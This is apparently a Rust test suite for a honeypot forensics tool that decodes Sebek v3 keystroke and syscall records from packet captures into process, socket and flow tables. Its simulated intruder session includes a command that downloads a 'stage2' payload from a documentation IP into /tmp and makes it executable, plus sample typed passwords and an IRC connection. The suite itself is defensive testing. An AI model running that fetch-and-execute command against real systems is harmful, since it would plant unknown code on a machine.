//! Sebek v3: the generator's scripted session (fixtures/sebek.pcap) ingested
//! into exactly the processes, tree edges, commands, reads, writes, opens,
//! sockets (joined to their flows) and losses it emitted; hostile packets on
//! the sebek port counted and skipped.

use std::path::Path;

use rusqlite::Connection;

use crate::util::*;

fn mirror(data: &str) -> Connection {
    Connection::open(Path::new(data).join("mirror.sqlite")).unwrap()
}

fn rows(c: &Connection, sql: &str) -> Vec<String> {
    let mut stmt = c.prepare(sql).unwrap();
    let n = stmt.column_count();
    stmt.query_map([], |r| {
        let mut cols = Vec::new();
        for i in 0..n {
            let v: rusqlite::types::Value = r.get(i)?;
            cols.push(match v {
                rusqlite::types::Value::Null => "NULL".into(),
                rusqlite::types::Value::Integer(i) => i.to_string(),
                rusqlite::types::Value::Real(f) => f.to_string(),
                rusqlite::types::Value::Text(t) => t,
                rusqlite::types::Value::Blob(b) => String::from_utf8_lossy(&b).into_owned(),
            });
        }
        Ok(cols.join("|"))
    })
    .unwrap()
    .map(Result::unwrap)
    .collect()
}

const HONEYPOT: i64 = 0x0a00_0005;
const T0: i64 = 1_300_000_000;
const LAG: i64 = 3_607;

#[test]
fn the_fixture_is_the_generator_output() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("sebek.pcap");
    ok(&["gen-sebek", out.to_str().unwrap()]);
    let made = std::fs::read(&out).unwrap();
    assert_eq!(made, std::fs::read(fixture("sebek.pcap")).unwrap());
    assert!(made.len() < 200 * 1024);
}

#[test]
fn a_generated_shell_session_round_trips_into_the_walleye_tables() {
    let (_d, data) = new_node(77);
    let f = fixture("sebek.pcap");
    let out = run(&["ingest", "--data", &data, f.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("sebek: 17 records decoded, 4 packets rejected"),
        "{}",
        stdout(&out)
    );
    assert!(stderr(&out).contains("4 packets on the sebek port are not sebek v3 records"));
    let c = mirror(&data);
    let ip = HONEYPOT.to_string();
    assert_eq!(
        rows(
            &c,
            "SELECT process_id, pid, src_ip FROM process ORDER BY process_id"
        ),
        [
            format!("1|1000|{ip}"),
            format!("2|1001|{ip}"),
            format!("3|1002|{ip}"),
            format!("4|1003|{ip}"),
            format!("5|1003|{ip}"),
        ]
    );
    // Both clocks: the honeypot's lags the capture's by LAG seconds.
    for r in rows(
        &c,
        "SELECT time_min, time_max, pcap_time_min, pcap_time_max FROM process",
    ) {
        let v: Vec<i64> = r.split('|').map(|x| x.parse().unwrap()).collect();
        assert_eq!((v[2] - v[0], v[3] - v[1]), (LAG, LAG), "{r}");
        assert!(v[2] >= T0 && v[3] >= v[2], "{r}");
    }
    assert_eq!(
        rows(
            &c,
            "SELECT child_process, parent_process FROM process_tree ORDER BY 1"
        ),
        ["2|1", "3|2", "4|3", "5|1"]
    );
    assert_eq!(
        rows(&c, "SELECT command_id, name FROM command ORDER BY 1"),
        ["1|sshd", "2|bash", "3|wget"]
    );
    assert_eq!(
        rows(
            &c,
            "SELECT process_id, command_id FROM process_to_com ORDER BY 1, 2"
        ),
        ["1|1", "2|1", "3|1", "3|2", "4|2", "4|3", "5|1"]
    );
    let keys = rows(
        &c,
        "SELECT data FROM sys_read WHERE process_id = 3 ORDER BY sys_read_id",
    )
    .concat();
    assert_eq!(keys, "wget x\n");
    assert_eq!(
        rows(
            &c,
            "SELECT sys_read_id, process_id, filed, length, data FROM sys_read WHERE process_id = 4"
        ),
        ["8|4|4|22|HTTP/1.0 200 OK\r\n\r\nELF"]
    );
    assert_eq!(
        rows(&c, "SELECT sys_write_id, process_id, data FROM sys_write"),
        ["1|4|GET /x HTTP/1.0\r\n\r\n"]
    );
    assert_eq!(
        rows(
            &c,
            "SELECT sys_open_id, process_id, filed, inode, filename FROM sys_open ORDER BY 1"
        ),
        [
            "1|3|3|555|/root/.bash_history",
            "2|4|3|556|/etc/resolv.conf"
        ]
    );
    // Sockets joined to the right flows: the accept came before its flow.
    let joined = rows(
        &c,
        "SELECT s.sys_socket_id, s.process_id, s.\"call\", f.src_ip, f.src_port, f.dst_ip, f.dst_port \
         FROM sys_socket s JOIN flow f USING (sensor_id, flow_id) ORDER BY 1",
    );
    assert_eq!(
        joined,
        [
            format!("1|1|5|{}|40001|{ip}|22", 0xc633_6407u32),
            format!("2|4|3|{ip}|50123|{}|80", 0xcb00_7109u32),
        ]
    );
    assert!(rows(&c, "SELECT * FROM x_pending_socket").is_empty());
    assert_eq!(
        rows(&c, "SELECT src_ip, lost FROM sbk_loss"),
        [format!("{ip}|2")]
    );
    // The legacy argus table mirrors the flows, argus_id = flow_id.
    assert_eq!(
        rows(
            &c,
            "SELECT a.src_port, a.dst_port, a.argus_dir, a.argus_status FROM argus a \
             JOIN flow f ON f.sensor_id = a.sensor_id AND f.flow_id = a.argus_id ORDER BY a.argus_id"
        ),
        ["1101|1101|->|INT", "40001|22|<->|CON", "50123|80|<->|CON"]
    );
    // Sebek packets are still UDP flows, counted as before.
    let udp: Vec<_> = flows_json(&data, &["--port", "1101"]);
    assert_eq!(udp.len(), 1);
    assert_eq!(udp[0]["src"]["packets"].as_u64(), Some(21));
}

#[test]
fn sebek_ingest_is_deterministic_and_idempotent() {
    let (_a, one) = new_node(77);
    let (_b, two) = new_node(77);
    let f = fixture("sebek.pcap");
    ok(&["ingest", "--data", &one, f.to_str().unwrap()]);
    ok(&["ingest", "--data", &two, f.to_str().unwrap()]);
    assert_eq!(segment_files(&one), segment_files(&two));
    ok(&["ingest", "--data", &one, f.to_str().unwrap()]);
    assert_eq!(segment_files(&one), segment_files(&two));
    let c = mirror(&one);
    assert_eq!(rows(&c, "SELECT count(*) FROM sys_read"), ["8"]);
}

#[test]
fn a_custom_sebek_port_is_honoured() {
    let dir = tempfile::tempdir().unwrap();
    let pcap = dir.path().join("s.pcap");
    ok(&["gen-sebek", "--port", "31337", pcap.to_str().unwrap()]);
    let (_d, data) = new_node(5);
    let out = ok(&["ingest", "--data", &data, pcap.to_str().unwrap()]);
    assert!(!out.contains("sebek:"), "{out}");
    config_set(&data, "capture.sebek_port", "31337");
    let (_e, data2) = new_node(5);
    config_set(&data2, "capture.sebek_port", "31337");
    let out = ok(&["ingest", "--data", &data2, pcap.to_str().unwrap()]);
    assert!(out.contains("sebek: 17 records decoded"), "{out}");
}

#[test]
fn every_ipv4_flow_has_its_argus_row() {
    let (_d, data) = new_node(42);
    let f = fixture("honeynet.pcap");
    ok(&["ingest", "--data", &data, f.to_str().unwrap()]);
    let c = mirror(&data);
    let flows = rows(&c, "SELECT count(*) FROM flow");
    assert_ne!(flows, ["0"]);
    assert_eq!(rows(&c, "SELECT count(*) FROM argus"), flows);
    assert_eq!(
        rows(
            &c,
            "SELECT count(*) FROM flow f JOIN argus a ON a.sensor_id = f.sensor_id \
             AND a.argus_id = f.flow_id AND a.src_ip = f.src_ip AND a.dst_port = f.dst_port \
             AND a.src_pkts = f.src_packets AND a.dst_pkts = f.dst_packets"
        ),
        flows
    );
    let statuses = rows(&c, "SELECT DISTINCT argus_status FROM argus ORDER BY 1");
    for s in ["CON", "FIN", "RST", "INT"] {
        assert!(statuses.iter().any(|x| x == s), "{s} in {statuses:?}");
    }
}

#[test]
fn processes_keystrokes_and_hosts_commands() {
    let (_d, data) = new_node(77);
    let f = fixture("sebek.pcap");
    ok(&["ingest", "--data", &data, f.to_str().unwrap()]);
    let json: Vec<serde_json::Value> = serde_json::from_str(&ok(&[
        "processes",
        "--data",
        &data,
        "--pid",
        "1003",
        "--json",
    ]))
    .unwrap();
    assert_eq!(json.len(), 2, "pid 1003 was reused");
    assert_eq!(json[0]["commands"], serde_json::json!(["bash", "wget"]));
    assert_eq!(json[0]["parents"], serde_json::json!([3]));
    assert_eq!(json[0]["opens"][0]["filename"], "/etc/resolv.conf");
    assert_eq!(json[0]["sockets"][0]["call"], 3);
    assert_eq!(json[1]["parents"], serde_json::json!([1]));
    // The flow of wget's connect: wget and its ancestors.
    let flow = json[0]["sockets"][0]["flow_id"]
        .as_u64()
        .unwrap()
        .to_string();
    let on_flow: Vec<serde_json::Value> = serde_json::from_str(&ok(&[
        "processes",
        "--data",
        &data,
        "--flow",
        &flow,
        "--json",
    ]))
    .unwrap();
    let ids: Vec<u64> = on_flow
        .iter()
        .map(|p| p["process_id"].as_u64().unwrap())
        .collect();
    assert_eq!(ids, [1, 2, 3, 4]);
    let none = ok(&["processes", "--data", &data, "--sensor", "1"]);
    assert!(none.contains("0 processes"), "{none}");
    assert_eq!(
        ok(&["keystrokes", "--data", &data, "--process", "3", "--raw"]),
        "wget x\n"
    );
    let host = ok(&["hosts", "--data", &data, "--ip", "10.0.0.5"]);
    assert!(
        host.contains("as client:\n") && host.contains("2 flows\n"),
        "{host}"
    );
    assert!(
        host.contains("as server:\n") && host.contains("1 flows\n"),
        "{host}"
    );
    assert!(host.contains("no OS fingerprint"), "{host}");
}

/// Every sebek table, in a fixed order, as text.
fn sebek_tables(data: &str) -> Vec<String> {
    let c = mirror(data);
    [
        "SELECT * FROM process ORDER BY 1, 2",
        "SELECT * FROM process_tree ORDER BY 1, 2, 3",
        "SELECT * FROM command ORDER BY 1, 2",
        "SELECT * FROM process_to_com ORDER BY 1, 2, 3",
        "SELECT * FROM sys_read ORDER BY 1, 2",
        "SELECT * FROM sys_write ORDER BY 1, 2",
        "SELECT * FROM sys_open ORDER BY 1, 2",
        "SELECT * FROM sys_socket ORDER BY 1, 2",
        "SELECT * FROM sbk_loss ORDER BY 1, 2, 3, 4",
        "SELECT * FROM x_pending_socket",
    ]
    .iter()
    .flat_map(|q| rows(&c, q))
    .collect()
}

#[test]
fn a_capture_ingested_in_two_steps_gives_the_same_rows() {
    let whole = std::fs::read(fixture("sebek.pcap")).unwrap();
    let (_a, once) = new_node(77);
    ingest_fixture(&once, "sebek.pcap");
    // Every cut point inside the packet records: the first run keeps the
    // whole packets before the cut (and the sebek state), the second resumes.
    let dir = tempfile::tempdir().unwrap();
    let grown = dir.path().join("growing.pcap");
    for cut in [400, 1200, 2000] {
        let (_b, twice) = new_node(77);
        std::fs::write(&grown, &whole[..cut]).unwrap();
        run(&["ingest", "--data", &twice, grown.to_str().unwrap()]);
        std::fs::write(&grown, &whole).unwrap();
        ok(&["ingest", "--data", &twice, grown.to_str().unwrap()]);
        assert_eq!(sebek_tables(&twice), sebek_tables(&once), "cut at {cut}");
    }
}

/// The sebek payloads (UDP payloads on the sebek port) of the generator's
/// scripted session, in order.
fn generated_sebek_payloads() -> Vec<Vec<u8>> {
    lumpy::sebek::generate::shell_session(1101)
        .iter()
        .filter_map(|f| {
            let net = lumpy::capture::decode(1, &f.data).ok()?.net?;
            (net.proto == 17 && net.src_port == 1101 && net.dst_port == 1101).then_some(())?;
            let udp = f.data.get(net.transport?.range())?;
            Some(udp.get(8..)?.to_vec())
        })
        .collect()
}

#[test]
fn serve_receives_sebek_datagrams_live_and_keeps_them() {
    use crate::sync::{free_port, serve};
    let (_d, data) = new_node(78);
    let udp_port = std::net::UdpSocket::bind("127.0.0.43:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    config_set(
        &data,
        "capture.sebek_listen",
        &format!("127.0.0.43:{udp_port}"),
    );
    config_set(&data, "capture.sebek_flush_secs", "1");
    let bad = run(&[
        "config",
        "set",
        "--data",
        &data,
        "capture.sebek_listen",
        "nowhere",
    ]);
    assert_eq!(bad.status.code(), Some(2), "{}", stderr(&bad));
    let port = free_port("127.0.0.43");
    let node = serve(&data, "127.0.0.43", port);
    let payloads = generated_sebek_payloads();
    assert!(payloads.len() > 10);
    let sock = std::net::UdpSocket::bind("127.0.0.44:0").unwrap();
    let to = format!("127.0.0.43:{udp_port}");
    // Garbage first: counted and skipped, the listener goes on.
    for junk in [&b""[..], b"not sebek at all", &[0u8; 100][..]] {
        sock.send_to(junk, &to).unwrap();
    }
    let (first, rest) = payloads.split_at(payloads.len() / 2);
    for p in first {
        sock.send_to(p, &to).unwrap();
    }
    // The flush timer commits while serve runs; the mirror shows them.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    loop {
        let out = ok(&["processes", "--data", &data, "--json"]);
        let v: Vec<serde_json::Value> = serde_json::from_str(&out).unwrap();
        if !v.is_empty() {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "no process rows while serving"
        );
        std::thread::sleep(std::time::Duration::from_millis(200));
    }
    node.stop();
    // The rest just before SIGTERM, with a flush timer that never fires:
    // stored by the shutdown flush, continuing the same process state.
    config_set(&data, "capture.sebek_flush_secs", "3600");
    let node = serve(&data, "127.0.0.43", port);
    for p in rest {
        sock.send_to(p, &to).unwrap();
    }
    std::thread::sleep(std::time::Duration::from_millis(300));
    node.stop();
    let live: Vec<serde_json::Value> =
        serde_json::from_str(&ok(&["processes", "--data", &data, "--json"])).unwrap();
    // The same session ingested from the capture gives the same processes
    // (pids, trees, commands, opens); only the honeypot address (here the
    // datagrams' source) and the capture clock (receive time) differ.
    let (_e, reference) = new_node(79);
    ingest_fixture(&reference, "sebek.pcap");
    let from_pcap: Vec<serde_json::Value> =
        serde_json::from_str(&ok(&["processes", "--data", &reference, "--json"])).unwrap();
    let shape = |v: &[serde_json::Value]| -> Vec<String> {
        v.iter()
            .map(|p| {
                format!(
                    "{} {} {} {} {} {}",
                    p["pid"],
                    p["parents"],
                    p["children"],
                    p["commands"],
                    p["opens"].as_array().map_or(0, Vec::len),
                    p["sockets"].as_array().map_or(0, Vec::len)
                )
            })
            .collect()
    };
    assert_eq!(shape(&live), shape(&from_pcap));
    let counts = |data: &str| -> Vec<String> {
        let c = mirror(data);
        [
            "process",
            "process_tree",
            "command",
            "process_to_com",
            "sys_read",
            "sys_write",
            "sys_open",
            "sys_socket",
            "sbk_loss",
        ]
        .iter()
        .flat_map(|t| rows(&c, &format!("SELECT '{t}', count(*) FROM {t}")))
        .collect()
    };
    assert_eq!(counts(&data), counts(&reference));
    assert!(live.iter().all(|p| p["src_ip"] == "127.0.0.44"), "{live:?}");
    assert_eq!(
        ok(&["keystrokes", "--data", &data, "--process", "3", "--raw"]),
        "wget x\n"
    );
}

/// `src` (a little-endian classic pcap) as a capture with `snaplen` would
/// have recorded it: every record cut to at most `snaplen` bytes.
fn with_snaplen(src: &Path, dst: &Path, snaplen: u32) {
    let bytes = std::fs::read(src).unwrap();
    assert_eq!(&bytes[0..4], &[0xd4, 0xc3, 0xb2, 0xa1]);
    let mut out = bytes[..16].to_vec();
    out.extend_from_slice(&snaplen.to_le_bytes());
    out.extend_from_slice(&bytes[20..24]);
    let mut at = 24;
    while at + 16 <= bytes.len() {
        let caplen = u32::from_le_bytes(bytes[at + 8..at + 12].try_into().unwrap());
        let kept = caplen.min(snaplen);
        out.extend_from_slice(&bytes[at..at + 8]);
        out.extend_from_slice(&kept.to_le_bytes());
        out.extend_from_slice(&bytes[at + 12..at + 16]);
        out.extend_from_slice(&bytes[at + 16..at + 16 + kept as usize]);
        at += 16 + caplen as usize;
    }
    std::fs::write(dst, out).unwrap();
}

/// The processes as `processes --json` shows them, without what a cut
/// record cannot carry (opened file names, read bytes).
fn process_skeleton(data: &str) -> Vec<serde_json::Value> {
    let all: Vec<serde_json::Value> =
        serde_json::from_str(&ok(&["processes", "--data", data, "--json"])).unwrap();
    all.iter()
        .map(|p| {
            serde_json::json!({
                "process_id": p["process_id"],
                "pid": p["pid"],
                "commands": p["commands"],
                "parents": p["parents"],
                "children": p["children"],
                "opens": p["opens"].as_array().map(Vec::len),
                "sockets": p["sockets"].as_array().map(Vec::len),
            })
        })
        .collect()
}

#[test]
fn records_cut_by_the_snaplen_keep_their_headers_and_are_marked_truncated() {
    let dir = tempfile::tempdir().unwrap();
    let (_w, whole) = new_node(77);
    ingest_fixture(&whole, "sebek.pcap");
    // 96 bytes of an Ethernet frame leave 54 of the 56-byte sebek header:
    // everything up to the command name, not the length (the UDP length
    // gives it).
    let cut = dir.path().join("snap96.pcap");
    with_snaplen(&fixture("sebek.pcap"), &cut, 96);
    let (_c, data) = new_node(77);
    let out = ok(&["ingest", "--data", &data, cut.to_str().unwrap()]);
    // The 17 records of the session, and one hostile packet whose lie (a
    // length past its end) was in the bytes the snaplen removed: cut, it
    // is an honest-looking record of pid 9 ("evil"). The other three
    // hostile packets are still rejected.
    assert!(
        out.contains("sebek: 18 records decoded, 3 packets rejected"),
        "{out}"
    );
    assert!(
        out.contains("sebek: 18 records cut by the capture's snaplen"),
        "{out}"
    );
    let mut cut_processes = process_skeleton(&data);
    let evil = cut_processes.pop().unwrap();
    assert_eq!(evil["pid"], 9);
    assert_eq!(cut_processes, process_skeleton(&whole));
    // The read rows keep their header fields, with the bytes present (none
    // here) and the length sebek sent.
    let cut_reads = rows(
        &mirror(&data),
        "SELECT process_id, uid, counter, filed, inode, length, length(data) FROM sys_read \
         WHERE process_id NOT IN (SELECT process_id FROM process WHERE pid = 9) ORDER BY 1, 2, 3",
    );
    let whole_reads = rows(
        &mirror(&whole),
        "SELECT process_id, uid, counter, filed, inode, length, 0 FROM sys_read ORDER BY 1, 2, 3",
    );
    assert!(!cut_reads.is_empty());
    assert_eq!(cut_reads, whole_reads);
    // The mirror marks each row whose record the snaplen cut (here: all of
    // them), and none of the whole capture's.
    let marked = |data: &str| {
        rows(
            &mirror(data),
            "SELECT tbl, count(*) FROM x_sebek_truncated GROUP BY tbl ORDER BY tbl",
        )
    };
    assert!(marked(&whole).is_empty());
    let all_rows = rows(
        &mirror(&data),
        "SELECT * FROM (SELECT 'sys_open', count(*) n FROM sys_open UNION ALL \
         SELECT 'sys_read', count(*) FROM sys_read UNION ALL \
         SELECT 'sys_socket', count(*) FROM sys_socket UNION ALL \
         SELECT 'sys_write', count(*) FROM sys_write) WHERE n > 0 ORDER BY 1",
    );
    assert_eq!(marked(&data), all_rows);
    let procs = ok(&["processes", "--data", &data]);
    assert!(
        procs.contains("of its records cut by the capture's snaplen")
            && procs.contains("[truncated]"),
        "{procs}"
    );
    assert!(!ok(&["processes", "--data", &whole]).contains("truncated"));
    // 115 bytes keep the first 17 bytes of data: keystrokes are whole,
    // wget's read of 23 bytes is cut after its first CR LF: its line is
    // marked.
    let cut = dir.path().join("snap115.pcap");
    with_snaplen(&fixture("sebek.pcap"), &cut, 115);
    let (_k, keys) = new_node(77);
    ok(&["ingest", "--data", &keys, cut.to_str().unwrap()]);
    let lines = ok(&["keystrokes", "--data", &keys]);
    assert!(
        lines.contains("COM:wget ]#HTTP/1.0 200 OK [truncated]\n")
            && lines.contains("COM:sshd/bash ]#wget x\n"),
        "{lines}"
    );
    let json: serde_json::Value =
        serde_json::from_str(&ok(&["keystrokes", "--data", &keys, "--json"])).unwrap();
    assert_eq!(json[1]["truncated"], true, "{json}");
    assert!(json[0].get("truncated").is_none(), "{json}");
    // The byte view marks each cut read (bash's, on the 96-byte capture).
    let raw = ok(&["keystrokes", "--data", &data, "--raw", "--process", "3"]);
    assert!(raw.contains("[truncated]"), "{raw}");
    let procs: Vec<serde_json::Value> =
        serde_json::from_str(&ok(&["processes", "--data", &keys, "--json"])).unwrap();
    let cut_counts: Vec<(u64, u64)> = procs
        .iter()
        .filter(|p| p["truncated"] != 0)
        .map(|p| (p["pid"].as_u64().unwrap(), p["truncated"].as_u64().unwrap()))
        .collect();
    // bash's open of /root/.bash_history (19 bytes), wget's request (19)
    // and its reply.
    assert_eq!(cut_counts, [(1002, 1), (1003, 2)]);
    // Cut inside the command name: the header is gone, so is the record.
    let cut = dir.path().join("snap80.pcap");
    with_snaplen(&fixture("sebek.pcap"), &cut, 80);
    let (_r, rejected) = new_node(77);
    let out = ok(&["ingest", "--data", &rejected, cut.to_str().unwrap()]);
    assert!(
        out.contains("sebek: 0 records decoded, 21 packets rejected"),
        "{out}"
    );
}

/// A node of sensor `id` holding the sebek fixture and the captures
/// `gen-sebek --script NAME` makes for each of `scripts`, in one ingest.
fn node_with_sebek_scripts(id: u32, scripts: &[&str]) -> (tempfile::TempDir, String) {
    let (d, data) = new_node(id);
    let mut files = vec![fixture("sebek.pcap")];
    for name in scripts {
        let f = d.path().join(format!("{name}.pcap"));
        ok(&["gen-sebek", "--script", name, f.to_str().unwrap()]);
        files.push(f);
    }
    let mut args = vec!["ingest", "--data", &data];
    args.extend(files.iter().map(|f| f.to_str().unwrap()));
    ok(&args);
    (d, data)
}

/// `keystrokes` prints what sbk_ks_log.pl prints. The expected lines were
/// derived by hand from the generator's scripts (src/sebek/generate.rs): the
/// script keeps reads of at most 100 bytes on any fd (the zero-length read
/// that marks a fork, sent as the child with the parent's command and uid
/// 0, included), groups them per (host, pid, inode, fd) until a read holding
/// `\r` or `\n`, prints the honeypot clock (capture clock minus 3607 s) of
/// that read, the uids and commands seen on the line (lumpy: in the order
/// first seen; the script: in Perl hash order), `[BS]` for 0x7f and drops
/// the other control bytes. A pasted read of 85 bytes is whole, beyond the
/// 59 bytes of hflow2's `sys_read.data`, and each line names the commands
/// its own reads carried (before and after an exec in one process).
#[test]
fn keystrokes_print_what_sbk_ks_log_prints() {
    let (_d, data) = node_with_sebek_scripts(78, &["typing", "paste"]);
    let h = "Host:10.0.0.5";
    let sbk = [
        format!("[2011-03-13 06:06:34 {h} UID:0 PID:1002 FD:0 INO:100 COM:sshd/bash ]#wget x"),
        // wget's reply is a read of 24 bytes on its socket: the script keeps it.
        format!(
            "[2011-03-13 06:06:34 {h} UID:0 PID:1003 FD:4 INO:104 COM:wget ]#HTTP/1.0 200 OKELF"
        ),
        format!(
            "[2011-03-13 06:23:15 {h} UID:0/1000 PID:2002 FD:0 INO:100 COM:sshd/bash ]#unmae[BS][BS][BS]ame -a"
        ),
        format!("[2011-03-13 06:23:16 {h} UID:1000 PID:2002 FD:0 INO:100 COM:bash ]#passwd"),
        format!("[2011-03-13 06:23:17 {h} UID:0 PID:2003 FD:0 INO:100 COM:bash/passwd ]#Hunter2!"),
        format!("[2011-03-13 06:23:18 {h} UID:0 PID:2003 FD:0 INO:100 COM:passwd ]#Hunter2!"),
        format!("[2011-03-13 06:23:18 {h} UID:1000 PID:2002 FD:0 INO:100 COM:bash ]#su -"),
        format!("[2011-03-13 06:23:19 {h} UID:0 PID:2004 FD:0 INO:100 COM:bash/su ]#r00tpw"),
        format!("[2011-03-13 06:23:20 {h} UID:0 PID:2005 FD:0 INO:100 COM:su/bash ]#ls[U-ARROW]"),
        format!(
            "[2011-03-13 06:39:53 {h} UID:0 PID:3002 FD:0 INO:100 COM:sshd/bash ]#curl -s http://203.0.113.66/stage2/payload-x86_64.bin -o /tmp/.x && chmod +x /tmp/.x"
        ),
        // After the exec the same pid's reads carry python: each line names
        // the commands of its own reads.
        format!("[2011-03-13 06:39:53 {h} UID:0 PID:3002 FD:0 INO:100 COM:python ]#print(1)"),
    ];
    let lines = |args: &[&str]| -> Vec<String> {
        let mut all = vec!["keystrokes", "--data", &data];
        all.extend_from_slice(args);
        ok(&all).lines().map(str::to_owned).collect()
    };
    assert_eq!(lines(&[]), sbk);
    let cooked = lines(&["--cooked", "--since", "2011-03-13T06:20:00"]);
    assert_eq!(
        cooked.first().map(String::as_str),
        Some(
            format!(
                "[2011-03-13 06:23:15 {h} UID:0/1000 PID:2002 FD:0 INO:100 COM:sshd/bash ]#uname -a"
            )
            .as_str()
        )
    );
    assert_eq!(cooked.len(), 9, "{cooked:?}");
    assert!(lines(&["--host", "10.0.0.6"]).is_empty());
    // Filters: the process of wget, then one sensor that has nothing.
    assert_eq!(lines(&["--process", "4"]), sbk[1..2]);
    assert!(lines(&["--sensor", "1"]).is_empty());
    let json: serde_json::Value =
        serde_json::from_str(&ok(&["keystrokes", "--data", &data, "--json"])).unwrap();
    assert_eq!(json[2]["raw"], "unmae\\x7f\\x7f\\x7fame -a\\r");
    assert_eq!(json[2]["cooked"], "uname -a");
    // --raw needs one process; --cooked and --raw exclude each other.
    for bad in [
        &["keystrokes", "--data", &data, "--raw"][..],
        &[
            "keystrokes",
            "--data",
            &data,
            "--raw",
            "--cooked",
            "--process",
            "3",
        ],
    ] {
        assert_eq!(run(bad).status.code(), Some(2), "{bad:?}");
    }
}

/// `processes`: each socket with its call, protocol, both ends, uid and the
/// joined flow (or "no flow seen"), each process's uid and parent pid (also
/// when the parent sent no record), the capture clock unless --both-clocks.
#[test]
fn processes_show_sockets_uids_and_parent_pids() {
    let (_d, data) = node_with_sebek_scripts(79, &["typing"]);
    let out = ok(&["processes", "--data", &data]);
    let wget_flow = rows(
        &mirror(&data),
        "SELECT flow_id FROM flow WHERE dst_port = 80 AND src_port = 50123",
    );
    let expected = [
        "process 1 (sensor 79) pid 1000 ppid 1 uid 0 on 10.0.0.5: 2011-03-13 07:06:40 .. 2011-03-13 07:06:40".to_string(),
        "  parent: pid 1 (sent no record)  children: 2, 5".into(),
        format!(
            "  socket 2 connect tcp 10.0.0.5:50123 -> 203.0.113.9:80 uid 0 flow {} at 2011-03-13 07:06:41",
            wget_flow[0]
        ),
        "process 7 (sensor 79) pid 2002 ppid 2001 uid 1000 on 10.0.0.5:".into(),
        "  socket 4 connect tcp 10.0.0.5:41000 -> 203.0.113.66:6667 uid 0 no flow seen at 2011-03-13 07:23:".into(),
    ];
    for line in &expected {
        assert!(
            out.lines().any(|l| l.starts_with(line.as_str())),
            "{line}\nin\n{out}"
        );
    }
    assert!(!out.contains("honeypot clock"), "{out}");
    let both = ok(&[
        "processes",
        "--data",
        &data,
        "--pid",
        "1000",
        "--both-clocks",
    ]);
    assert!(
        both.contains("2011-03-13 07:06:40 (honeypot clock 2011-03-13 06:06:33)"),
        "{both}"
    );
    let json: Vec<serde_json::Value> = serde_json::from_str(&ok(&[
        "processes",
        "--data",
        &data,
        "--pid",
        "2005",
        "--json",
    ]))
    .unwrap();
    let s = &json[0]["sockets"][0];
    assert_eq!(
        (
            &s["remote_ip"],
            &s["remote_port"],
            &s["proto"],
            &s["flow_id"],
            &s["call_name"]
        ),
        (
            &serde_json::json!("203.0.113.66"),
            &serde_json::json!(6667),
            &serde_json::json!(6),
            &serde_json::json!(0),
            &serde_json::json!("connect")
        )
    );
    assert_eq!(json[0]["ppid"], 2004);
}
